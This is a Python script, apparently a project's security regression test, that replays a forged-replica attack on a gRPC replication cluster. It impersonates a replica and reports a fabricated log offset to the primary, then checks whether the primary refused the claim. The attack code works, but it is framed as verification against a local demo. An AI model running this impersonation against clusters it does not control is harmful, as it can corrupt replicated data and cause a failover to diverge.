#!/usr/bin/env python3
"""forged_replica.py: replay the forged-replica attack of issue 11 against a running cluster.

The attack: a plain gRPC client opens Node.Replicate on a data ID's primary, claims the node
ID of a real replica, and reports a position far beyond the primary's log end. A primary
that believes it would count events no replica holds towards acks=all and the high
watermark, and a later failover would diverge for good.

What this script does, with stubs generated from proto/streaming.proto at run time (into a
temporary directory, with grpcio-tools):
  1. asks every node for the data ID's replication status and finds the primary, its epoch,
     its log end and a replica to impersonate;
  2. opens Replicate on the primary as that replica (optionally with a cluster secret and a
     client certificate, to try the stronger variants) and claims `log end + --ahead`;
  3. reads what the primary answers, and afterwards checks on the primary that the claim
     counted for nothing (the impersonated replica's reported end and the high watermark
     stay within the log).

Defaults match `scripts/demo.sh` (nodes on 127.0.0.1:50052/50054/50056, data ID `demo`).
Against `scripts/demo.sh secure`, pass the TLS files and the client token it prints.

Exit codes: 0 the attack was refused and changed nothing; 1 the attack was accepted (the
session stayed open, or the forged position was counted); 2 the attack could not be run
(no cluster, no primary, bad arguments, grpcio missing).
"""

import argparse
import asyncio
import importlib
import os
import subprocess
import sys
import tempfile

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
PROTO_DIR = os.path.join(ROOT, "proto")

REFUSED, ACCEPTED, CANNOT_RUN = 0, 1, 2


def say(msg):
    print(f"forged_replica: {msg}", flush=True)


def ensure_grpc():
    """Imports grpcio and grpcio-tools, installing them with pip if they are missing."""
    try:
        import grpc  # noqa: F401
        import grpc_tools  # noqa: F401
    except ImportError:
        say("installing grpcio and grpcio-tools (pip install grpcio grpcio-tools)")
        rc = subprocess.call(
            [sys.executable, "-m", "pip", "install", "--quiet", "grpcio", "grpcio-tools"]
        )
        if rc != 0:
            say("pip could not install grpcio grpcio-tools; install them and run again")
            sys.exit(CANNOT_RUN)
        importlib.invalidate_caches()


def generate_stubs(out_dir):
    """Compiles proto/streaming.proto into out_dir and imports the generated modules."""
    from grpc_tools import protoc
    import grpc_tools

    include = os.path.join(os.path.dirname(grpc_tools.__file__), "_proto")
    rc = protoc.main(
        [
            "protoc",
            f"-I{PROTO_DIR}",
            f"-I{include}",
            f"--python_out={out_dir}",
            f"--grpc_python_out={out_dir}",
            os.path.join(PROTO_DIR, "streaming.proto"),
        ]
    )
    if rc != 0:
        say(f"protoc failed on {PROTO_DIR}/streaming.proto (exit {rc})")
        sys.exit(CANNOT_RUN)
    sys.path.insert(0, out_dir)
    return importlib.import_module("streaming_pb2"), importlib.import_module(
        "streaming_pb2_grpc"
    )


def read_file(path):
    with open(path, "rb") as f:
        return f.read()


def channel(grpc, args, address):
    if not args.tls_ca:
        return grpc.aio.insecure_channel(address)
    creds = grpc.ssl_channel_credentials(
        root_certificates=read_file(args.tls_ca),
        private_key=read_file(args.tls_key) if args.tls_key else None,
        certificate_chain=read_file(args.tls_cert) if args.tls_cert else None,
    )
    return grpc.aio.secure_channel(address, creds)


def metadata(args, with_secret):
    md = []
    if args.token:
        md.append(("authorization", f"Bearer {args.token}"))
    if with_secret and args.secret:
        md.append(("ec-cluster-secret", args.secret))
    return tuple(md)


async def replication_status(grpc, pb, pbg, args, address):
    async with channel(grpc, args, address) as ch:
        stub = pbg.NodeStub(ch)
        return await stub.GetReplicationStatus(
            pb.StreamInfoRequest(data_id=args.data_id),
            metadata=metadata(args, False),
            timeout=args.timeout,
        )


async def find_primary(grpc, pb, pbg, args):
    """(address, status) of the node that is the data ID's primary."""
    errors = []
    for address in args.nodes:
        try:
            s = await replication_status(grpc, pb, pbg, args, address)
        except grpc.aio.AioRpcError as e:
            errors.append(f"{address}: {e.code().name}: {e.details()}")
            continue
        if s.role == pb.STREAM_ROLE_PRIMARY:
            return address, s
        errors.append(f"{address}: {pb.StreamRole.Name(s.role)}")
    say(
        f"no node answered as primary of data ID {args.data_id} ({'; '.join(errors)}); "
        "is the cluster running (scripts/demo.sh up)?"
    )
    sys.exit(CANNOT_RUN)


def progress_of(status, node_id):
    for r in status.replicas:
        if r.node_id == node_id:
            return r
    return None


async def attack(grpc, pb, pbg, args, address, before, claim, forged):
    """Runs one forged session; returns (refused, description)."""
    hello = pb.ReplicaMessage(
        data_id=args.data_id,
        replica_id=claim,
        leader_epoch=before.epoch,
        earliest_offset=0,
        next_offset=forged,
    )
    async with channel(grpc, args, address) as ch:
        stub = pbg.NodeStub(ch)
        call = stub.Replicate(metadata=metadata(args, True))
        try:
            await call.write(hello)
            first = await asyncio.wait_for(call.read(), args.timeout)
            if first is grpc.aio.EOF:
                return True, "the primary closed the session without a message"
            cut = first.truncate_to if first.HasField("truncate_to") else None
            say(
                f"session opened: the primary answered first with truncate_to={cut or '-'} "
                f"log_end_offset={first.log_end_offset}; reporting next_offset={forged}"
            )
            await call.write(pb.ReplicaMessage(next_offset=forged))
            loop = asyncio.get_running_loop()
            deadline = loop.time() + args.timeout
            while True:
                left = deadline - loop.time()
                if left <= 0:
                    call.cancel()
                    return False, (
                        f"the session stayed open for {args.timeout:g}s after the forged "
                        f"report of next_offset={forged}"
                    )
                try:
                    msg = await asyncio.wait_for(call.read(), left)
                except asyncio.TimeoutError:
                    continue
                if msg is grpc.aio.EOF:
                    return True, "the primary ended the session after the forged report"
        except grpc.aio.AioRpcError as e:
            return True, f"{e.code().name}: {e.details()}"


def parse_args():
    base = int(os.environ.get("EC_DEMO_NODE_PORT", "50052"))
    default_nodes = ",".join(f"127.0.0.1:{base + 2 * i}" for i in range(3))
    p = argparse.ArgumentParser(
        description="Replay the forged-replica attack (issue 11) against a running cluster.",
        epilog="Exit codes: 0 refused, 1 accepted (vulnerable), 2 could not run.",
    )
    p.add_argument("--nodes", default=default_nodes,
                   help=f"comma-separated node addresses (default {default_nodes})")
    p.add_argument("--data-id", default="demo", help="data ID to attack (default demo)")
    p.add_argument("--claim", help="node ID to impersonate (default: a replica of the primary)")
    p.add_argument("--ahead", type=int, default=1000,
                   help="claim this many events beyond the primary's log end (default 1000)")
    p.add_argument("--secret", help="cluster secret to present (default: none)")
    p.add_argument("--token", help="bearer token for the status reads on a secured cluster")
    p.add_argument("--tls-ca", help="PEM CA of the nodes' certificates (turns TLS on)")
    p.add_argument("--tls-cert", help="PEM client certificate to present")
    p.add_argument("--tls-key", help="PEM key of --tls-cert")
    p.add_argument("--timeout", type=float, default=5.0,
                   help="seconds to wait for each answer (default 5)")
    args = p.parse_args()
    args.nodes = [n.strip() for n in args.nodes.split(",") if n.strip()]
    if not args.nodes:
        p.error("--nodes names no node")
    if bool(args.tls_cert) != bool(args.tls_key):
        p.error("--tls-cert and --tls-key go together")
    if (args.tls_cert or args.tls_key) and not args.tls_ca:
        p.error("--tls-cert needs --tls-ca")
    return args


async def main():
    args = parse_args()
    ensure_grpc()
    import grpc

    with tempfile.TemporaryDirectory(prefix="ec-stubs-") as stubs:
        pb, pbg = generate_stubs(stubs)
        address, before = await find_primary(grpc, pb, pbg, args)
        say(
            f"primary of {args.data_id}: {before.primary_node_id} at {address}, epoch "
            f"{before.epoch}, log end {before.log_end_offset}, high watermark "
            f"{before.high_watermark}, in sync {list(before.in_sync)}"
        )
        claim = args.claim
        if not claim:
            replicas = [r.node_id for r in before.replicas]
            if not replicas:
                say("the primary lists no replica to impersonate; pass --claim NODE_ID")
                return CANNOT_RUN
            claim = replicas[0]
        forged = before.log_end_offset + args.ahead
        how = ", ".join(
            w for w, on in [
                ("a cluster secret", args.secret),
                (f"client certificate {args.tls_cert}", args.tls_cert),
                ("TLS", args.tls_ca and not args.tls_cert),
            ] if on
        ) or "no credential"
        say(f"opening Replicate as {claim} with {how}, claiming next_offset={forged}")
        refused, why = await attack(grpc, pb, pbg, args, address, before, claim, forged)
        say(("REFUSED: " if refused else "ACCEPTED: ") + why)

        after = await replication_status(grpc, pb, pbg, args, address)
        p = progress_of(after, claim)
        reported = p.next_offset if p and p.known else None
        say(
            f"after: log end {after.log_end_offset}, high watermark {after.high_watermark}, "
            f"{claim} reported end {reported if reported is not None else '-'}, "
            f"in sync {list(after.in_sync)}"
        )
        counted = (reported is not None and reported > after.log_end_offset) or (
            after.high_watermark > after.log_end_offset
        )
        if counted:
            say(f"the forged position was COUNTED: {claim} is credited beyond the log end")
            return ACCEPTED
        if not refused:
            return ACCEPTED
        say("the attack was refused and changed nothing")
        return REFUSED


if __name__ == "__main__":
    try:
        sys.exit(asyncio.run(main()))
    except KeyboardInterrupt:
        sys.exit(CANNOT_RUN)
